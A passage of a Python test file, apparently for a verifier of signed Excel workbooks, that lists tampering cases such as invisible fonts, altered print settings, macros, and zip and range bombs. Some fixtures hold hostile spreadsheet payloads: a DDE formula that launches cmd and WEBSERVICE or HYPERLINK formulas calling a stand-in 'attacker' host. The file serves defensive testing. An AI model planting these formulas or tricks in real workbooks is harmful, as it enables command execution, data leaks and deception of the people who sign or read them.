            R.APPEARANCE,
            "非表示の列",
        ),
        Case(
            "white_one_point_font",
            A,
            pc(
                _font(
                    '<font><sz val="1"/><color rgb="FFFFFFFF"/><name val="游ゴシック"/></font>',
                    lambda t: t.number_ref,
                )
            ),
            R.APPEARANCE,
            "小さすぎる文字",
        ),
        Case(
            "white_font_on_white",
            A,
            pc(
                _font(
                    '<font><sz val="10"/><color rgb="FFFFFFFF"/><name val="游ゴシック"/></font>',
                    lambda t: t.text_ref,
                )
            ),
            R.APPEARANCE,
            "背景と同じ色",
        ),
        Case("label_font_colour_of_fill", A, pc(_font_of_fill), R.APPEARANCE, "背景と同じ色"),
        Case(
            "near_white_font",
            A,
            pc(
                _font(
                    '<font><sz val="10"/><color rgb="FFFEFEFE"/><name val="游ゴシック"/></font>',
                    lambda t: t.number_ref,
                )
            ),
            R.APPEARANCE,
            "ほとんど同じ色",
        ),
        Case(
            "theme_background_2_font",
            A,
            pc(
                _font(
                    '<font><sz val="10"/><color theme="2"/><name val="游ゴシック"/></font>',
                    lambda t: t.text_ref,
                )
            ),
            R.APPEARANCE,
            "ほとんど同じ色",
        ),
        Case(
            "theme_white_darker_5_percent_font",
            A,
            pc(
                _font(
                    '<font><sz val="10"/><color theme="0" tint="-0.0499893185216834"/><name val="游ゴシック"/></font>',
                    lambda t: t.number_ref,
                )
            ),
            R.APPEARANCE,
            "ほとんど同じ色",
        ),
        Case(
            "indexed_white_font",
            A,
            pc(
                _font(
                    '<font><sz val="10"/><color indexed="9"/><name val="游ゴシック"/></font>',
                    lambda t: t.label_ref,
                )
            ),
            R.APPEARANCE,
            "同じ色の文字",
        ),
        Case(
            "number_struck_through",
            A,
            pc(_font('<font><strike/><sz val="10"/><name val="游ゴシック"/></font>', lambda t: t.number_ref)),
            R.APPEARANCE,
            "取り消し線",
        ),
        Case(
            "number_in_superscript",
            A,
            pc(
                _font(
                    '<font><vertAlign val="superscript"/><sz val="10"/><name val="游ゴシック"/></font>',
                    lambda t: t.number_ref,
                )
            ),
            R.APPEARANCE,
            "上付き・下付き",
        ),
        Case(
            "number_repeated_by_fill_alignment",  # LibreOffice prints 62,17262,17262,172…
            A,
            pc(_align('<alignment horizontal="fill"/>', lambda t: t.number_ref)),
            R.APPEARANCE,
            "繰り返して表示する配置",
        ),
        Case(
            "number_rotated_out_of_its_row",
            A,
            pc(_align('<alignment textRotation="90"/>', lambda t: t.number_ref)),
            R.APPEARANCE,
            "回転した文字",
        ),
        Case(
            "number_crossed_out_by_a_diagonal_border",
            A,
            pc(_new_format(_diagonal_border, lambda t: t.number_ref)),
            R.APPEARANCE,
            "斜線で消されています",
        ),
        Case(
            "number_on_a_black_pattern",  # 75 % grey of black on black: a black cell
            A,
            pc(
                _pattern_fill(
                    '<fill><patternFill patternType="darkGray"><fgColor rgb="FF000000"/>'
                    '<bgColor rgb="FF111111"/></patternFill></fill>',
                    lambda t: t.number_ref,
                )
            ),
            R.APPEARANCE,
            "背景の模様とほとんど同じ色",
        ),
        Case(
            "text_shrunk_to_fit",
            A,
            pc(_align('<alignment shrinkToFit="1"/>', lambda t: t.text_ref)),
            R.APPEARANCE,
            "縮小して全体を表示",
        ),
        Case(
            "number_too_big_for_its_row",  # 60 pt in a row of 17.5: LibreOffice prints slivers of glyphs
            A,
            pc(_font('<font><sz val="60"/><name val="游ゴシック"/></font>', lambda t: t.number_ref)),
            R.APPEARANCE,
            "行の高さに収まらない大きな文字",
        ),
        Case(
            "font_size_not_a_number",
            A,
            pc(_font('<font><sz val="NaN"/><name val="游ゴシック"/></font>', lambda t: t.number_ref)),
            R.APPEARANCE,
            "小さすぎる文字",
        ),
        Case(
            "white_with_a_tint_that_is_not_a_number",  # theme 0 is white; what is tint NaN?
            A,
            pc(
                _font(
                    '<font><sz val="10"/><color theme="0" tint="NaN"/><name val="游ゴシック"/></font>',
                    lambda t: t.number_ref,
                )
            ),
            R.APPEARANCE,
            "読み取れない色",
        ),
        Case(
            "symbol_font",
            A,
            pc(_font('<font><sz val="10"/><name val="Wingdings"/></font>', lambda t: t.number_ref)),
            R.APPEARANCE,
            "記号のフォント",
        ),
        Case(
            "theme_text_colour_white",
            A,
            pc(_theme(_theme_text_white)),
            R.APPEARANCE,
            "ヘッダー・フッターの文字",
        ),
        Case(
            "theme_font_wingdings",
            A,
            pc(
                _theme(
                    lambda x: x.replace('<a:latin typeface="Calibri"/>', '<a:latin typeface="Wingdings"/>')
                )
            ),
            R.APPEARANCE,
            "テーマのフォント",
        ),
        Case(
            "theme_colour_transformed",
            A,
            pc(
                _theme(
                    lambda x: x.replace(
                        '<a:srgbClr val="1F497D"/>',
                        '<a:srgbClr val="1F497D"><a:lumMod val="10000"/></a:srgbClr>',
                    )
                )
            ),
            R.APPEARANCE,
            "テーマの色",
        ),
        Case(
            "theme_white_font",
            A,
            pc(
                _font(
                    '<font><sz val="10"/><color theme="0"/><name val="游ゴシック"/></font>',
                    lambda t: t.number_ref,
                )
            ),
            R.APPEARANCE,
            "背景と同じ色",
        ),
        Case("rich_text_tiny_run", A, pc(_rich_tiny), R.APPEARANCE, "見えない書式"),
        Case(
            "phonetic_shown",
            A,
            pc(
                lambda p, t: p.set_cell(
                    _sheet(p, t),
                    t.text_ref,
                    p.cell(_sheet(p, t), t.text_ref)
                    .group(0)
                    .replace(f'r="{t.text_ref}"', f'r="{t.text_ref}" ph="1"', 1),
                )
            ),
            R.APPEARANCE,
            "ふりがな",
        ),
        Case(
            "cell_outside_bindings",
            A,
            pc(
                lambda p, t: _put_cell(
                    p, t, "A900", '<c r="A900" t="inlineStr"><is><t>実績は 99,999 に訂正</t></is></c>'
                )
            ),
            R.APPEARANCE,
            "署名されていない内容があります",
        ),
        Case(
            "formula_with_old_cached_value",
            A,
            pc(
                lambda p, t: p.set_cell(
                    _sheet(p, t),
                    t.number_ref,
                    _formula_cell(t.number_ref, "99999", t.number_display.replace(",", "")),
                )
            ),
            R.ACTIVE_CONTENT,
            "数式があります",
        ),
        Case(
            "hyperlink_formula",
            A,
            pc(
                lambda p, t: _put_cell(
                    p,
                    t,
                    "A900",
                    _formula_cell("A900", 'HYPERLINK("file://attacker/x","詳細")', "詳細", text=True),
                )
            ),
            R.ACTIVE_CONTENT,
            "数式があります",
        ),
        Case(
            "webservice_formula",
            A,
            pc(
                lambda p, t: _put_cell(
                    p, t, "A900", _formula_cell("A900", 'WEBSERVICE("http://attacker/")', "", text=True)
                )
            ),
            R.ACTIVE_CONTENT,
            "数式があります",
        ),
        Case(
            "dde_formula",
            A,
            pc(lambda p, t: _put_cell(p, t, "A900", _formula_cell("A900", "cmd|'/c calc'!A0", "0"))),
            R.ACTIVE_CONTENT,
            "数式があります",
        ),
        Case(
            "shared_formula",
            A,
            pc(
                lambda p, t: p.set_cell(
                    _sheet(p, t),
                    t.number_ref,
                    f'<c r="{t.number_ref}"><f t="shared" ref="{t.number_ref}" si="0">1+1</f><v>{t.number_display.replace(",", "")}</v></c>',
                )
            ),
            R.ACTIVE_CONTENT,
            "数式があります",
        ),
        Case(
            "array_formula",
            A,
            pc(
                lambda p, t: p.set_cell(
                    _sheet(p, t),
                    t.number_ref,
                    f'<c r="{t.number_ref}"><f t="array" ref="{t.number_ref}">SUM(1)</f><v>{t.number_display.replace(",", "")}</v></c>',
                )
            ),
            R.ACTIVE_CONTENT,
            "数式があります",
        ),
        Case("hyperlink_to_unc_share", A, pc(_hyperlink), R.ACTIVE_CONTENT, ""),
        Case(
            "defined_name_webservice",
            A,
            pc(_defined_name("更新", 'WEBSERVICE("http://attacker/")')),
            R.APPEARANCE,
            "名前の定義",
        ),
        Case("print_area_cut_down", A, pc(_print_area), R.APPEARANCE, "印刷範囲"),
        Case("print_titles_changed", A, pc(_print_titles), R.APPEARANCE, "印刷タイトル"),
        Case("header_changed", A, pc(_header), R.APPEARANCE, "ヘッダー・フッター"),
        Case(
            "header_in_one_point",
            A,
            pc(lambda p, t: p.sub(_sheet(p, t), "<oddHeader>&amp;L", "<oddHeader>&amp;L&amp;1")),
            R.APPEARANCE,
            "ヘッダーが小さすぎる文字",
        ),
        Case(
            "header_in_white",
            A,
            pc(lambda p, t: p.sub(_sheet(p, t), "<oddHeader>&amp;L", "<oddHeader>&amp;L&amp;KFFFFFF")),
            R.APPEARANCE,
            "ヘッダーが見えない色",
        ),
        Case(
            "header_in_a_symbol_font",
            A,
            pc(
                lambda p, t: p.sub(
                    _sheet(p, t), "<oddHeader>&amp;L", '<oddHeader>&amp;L&amp;"Wingdings,Regular"'
                )
            ),
            R.APPEARANCE,
            "ヘッダーが記号のフォント",
        ),
        Case("header_written_twice", A, pc(_header_twice), R.CORRUPT, "oddHeader が2つ"),
        Case(
            "printed_at_ten_percent",
            A,
            pc(
                lambda p, t: (
                    p.sub(_sheet(p, t), 'fitToPage="1"', 'fitToPage="0"'),
                    p.sub(_sheet(p, t), "<pageSetup ", '<pageSetup scale="10" '),
                )
            ),
            R.APPEARANCE,
            "印刷の設定（ページに合わせる、拡大・縮小）",
        ),
        Case(
            "fitted_onto_one_page",
            A,
            pc(lambda p, t: p.sub(_sheet(p, t), 'fitToHeight="0"', 'fitToHeight="1"')),
            R.APPEARANCE,
            "印刷の設定（ページに合わせる）",
        ),
        Case(
            "printed_on_a_post_card",
            A,
            pc(lambda p, t: p.sub(_sheet(p, t), 'paperSize="9"', 'paperSize="43"')),
            R.APPEARANCE,
            "印刷の設定（用紙）",
        ),
        Case(
            "margins_of_seven_inches",
            A,
            pc(lambda p, t: p.sub(_sheet(p, t), '<pageMargins left="[^"]*"', '<pageMargins left="7"')),
            R.APPEARANCE,
            "印刷の設定（余白）",
        ),
        Case("row_format_written_twice", A, pc(_format_twice), R.CORRUPT, "sheetFormatPr が2つ"),
        Case("print_area_in_a_second_name_list", A, pc(_names_twice), R.CORRUPT, "definedNames が2つ"),
        Case("second_font_list", A, pc(_fonts_twice), R.CORRUPT, "fonts が2つ"),
        Case(
            "zeros_not_shown",
            A,
            pc(lambda p, t: p.sub(_sheet(p, t), r"<sheetView ", '<sheetView showZeros="0" ')),
            R.APPEARANCE,
            "0 の値",
        ),
        Case(
            "merge_covers_bound_cell",
            A,
            pc(
                lambda p, t: _merge(
                    p,
                    t,
                    f"{_next_col(t.number_ref)}:{t.number_ref}"
                    if _next_col(t.number_ref) != t.number_ref
                    else f"{t.number_ref}:{t.number_ref}",
                )
            ),
            R.APPEARANCE,
            "結合されたセル",
        ),
        Case("autofilter", A, pc(_element('<autoFilter ref="A1:B2"/>')), R.APPEARANCE, "フィルター"),
        Case(
            "custom_sheet_view",
            A,
            pc(
                _element(
                    '<customSheetViews><customSheetView guid="{00000000-0000-0000-0000-000000000000}"/></customSheetViews>'
                )
            ),
            R.APPEARANCE,
            "ユーザー設定のビュー",
        ),
        Case(
            "ext_list_in_sheet",
            A,
            pc(
                _element(
                    '<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"/></extLst>',
                    after="headerFooter",
                )
            ),
            R.APPEARANCE,
            "拡張データ",
        ),
        Case(
            "workbook_window_hidden",
            A,
            pc(
                lambda p, t: p.sub(
                    "xl/workbook.xml",
                    r'<workbookView visibility="visible"',
                    '<workbookView visibility="hidden"',
                )
            ),
            R.APPEARANCE,
            "ウィンドウ",
        ),
        # --- structure --------------------------------------------------------------------------
        Case("duplicate_zip_member", S, pc(_duplicate_member), R.CORRUPT, "同じ名前の構成要素"),
        Case(
            "unknown_part",
            S,
            pc(lambda p, t: p.add_part("xl/notes.xml", "<a/>", None)),
            R.APPEARANCE,
            "署名されていない構成要素",
        ),
        Case("macro_parts_and_type", S, pc(_macro), R.ACTIVE_CONTENT, "マクロ"),
        Case(
            "external_link",
            S,
            _pkg_case(
                _extra_part(
                    "xl/externalLinks/externalLink1.xml",
                    "<externalLink/>",
                    CT + "spreadsheetml.externalLink+xml",
                    ("xl/_rels/workbook.xml.rels", REL + "externalLink", "externalLinks/externalLink1.xml"),
                )
            ),
            R.ACTIVE_CONTENT,
            "外部ブック",
        ),
        Case(
            "activex_part",
            S,
            pc(_extra_part("xl/activeX/activeX1.xml", "<ax/>", "application/vnd.ms-office.activeX+xml")),
            R.ACTIVE_CONTENT,
            "OLE・ActiveX",
        ),
        Case(
            "ole_embedding",
            S,
            pc(
                _extra_part(
                    "xl/embeddings/oleObject1.bin",
                    "\x00",
                    "application/vnd.openxmlformats-officedocument.oleObject",
                )
            ),
            R.ACTIVE_CONTENT,
            "OLE・ActiveX",
        ),
        Case(
            "threaded_comment",
            S,
            pc(
                _extra_part(
                    "xl/threadedComments/threadedComment1.xml",
                    "<t/>",
                    "application/vnd.ms-excel.threadedcomments+xml",
                )
            ),
            R.ACTIVE_CONTENT,
            "コメント",
        ),
        Case(
            "calc_chain",
            S,
            pc(_extra_part("xl/calcChain.xml", "<calcChain/>", CT + "spreadsheetml.calcChain+xml")),
            R.ACTIVE_CONTENT,
            "構成要素",
        ),
        Case(
            "external_root_relationship",
            S,
            pc(
                lambda p, t: p.add_rel(
                    "_rels/.rels", "rId999", REL + "officeDocument", "http://attacker/x.xlsx", external=True
                )
            ),
            R.ACTIVE_CONTENT,
            "署名されていない参照",
        ),
        Case(
            "external_references_element",
            S,
            pc(
                lambda p, t: p.sub(
                    "xl/workbook.xml",
                    "</sheets>",
                    '</sheets><externalReferences><externalReference r:id="rId1"/></externalReferences>',
                )
            ),
            R.ACTIVE_CONTENT,
            "外部ブック",
        ),
        Case("lower_case_doctype", S, pc(_doctype_lower), R.UNSAFE_XML, "DTD"),
        Case("eight_bit_encoding", S, pc(_encoding), R.UNSAFE_XML, "UTF-8"),
        # --- sizes a file claims ----------------------------------------------------------------
        Case("range_bomb_cell_at_xfd1048576", B, pc(_range_bomb), R.TOO_LARGE, "セル範囲が上限を超えます"),
        Case("range_bomb_dimension", B, pc(_dimension_bomb), R.TOO_LARGE, "セル範囲が上限を超えます"),
        Case("range_bomb_merge", B, pc(_merge_bomb), R.TOO_LARGE, "セル範囲が上限を超えます"),
        Case("row_number_beyond_excel", B, pc(_big_row_number), R.TOO_LARGE, "セル範囲が上限を超えます"),
        Case("shared_string_count_bomb", B, pc(_strings_bomb), R.TOO_LARGE, "文字列の数"),
        Case("zip_ratio_bomb", B, _zip_ratio_bomb, R.TOO_LARGE, "展開後のサイズ"),
        Case("too_many_parts", B, _many_parts, R.TOO_LARGE, "構成要素が多すぎます"),
        Case("payload_nested_200000_deep", B, pc(_deep_payload), R.CORRUPT, "署名データが読み取れません"),
        # --- odd files and names ----------------------------------------------------------------
        Case("fifo", D, _fifo, R.NOT_XLSX, "名前付きパイプ"),
        Case("directory_named_xlsx", D, _directory, R.NOT_XLSX, "フォルダ"),
        Case("socket", D, _socket, R.NOT_XLSX, "ソケット"),
        Case("device", D, _device, R.NOT_XLSX, "デバイス"),
        Case("empty_file", D, _empty, R.CORRUPT, "空のファイル", merge="empty"),
        Case("csv_text", D, _text, R.NOT_XLSX, "Excel ブック"),
        Case("html_lower_doctype", D, _html, R.NOT_XLSX, "Excel ブック"),
        Case("truncated", D, _truncated, R.CORRUPT, "壊れています"),
        Case("macro_named_xlsx", D, pc(_macro_xlsm), R.ACTIVE_CONTENT, "マクロ"),
    ]
    return out


# file names that are not valid UTF-8 (Linux keeps the bytes; Python shows them as lone surrogates)
BAD_NAME = os.fsdecode(b"R08_\xff\xfe_bad.xlsx")


def find_target(payload: dict) -> Target:
    """A measure sheet with a bound number, a bound text different from a label beside it."""
    for sheet, entries in payload["bindings"].items():
        if sheet in ("表紙", "一覧"):
            continue
        numbers = [e for e in entries if e[1] == "n" and e[2] and e[3]]
        texts = [e for e in entries if e[1] == "s" and e[2] and e[3] and "\n" not in e[2]]
        labels = [
            e
            for e in entries
            if e[1] == "l" and e[2] and "\n" not in e[2] and not re.search(r"[&<>\\]", e[2])
        ]
        if not numbers or not texts or not labels:
            continue
        counts: dict[str, int] = {}
        for e in entries:
            counts[e[2]] = counts.get(e[2], 0) + 1
        label = next((e for e in labels if counts[e[2]] == 1 and e[2] != texts[0][2]), labels[0])
        n = numbers[0]
        return Target(sheet, n[0], n[4], texts[0][0], label[0], label[2])
    raise AssertionError("no measure sheet with numbers, texts and labels")
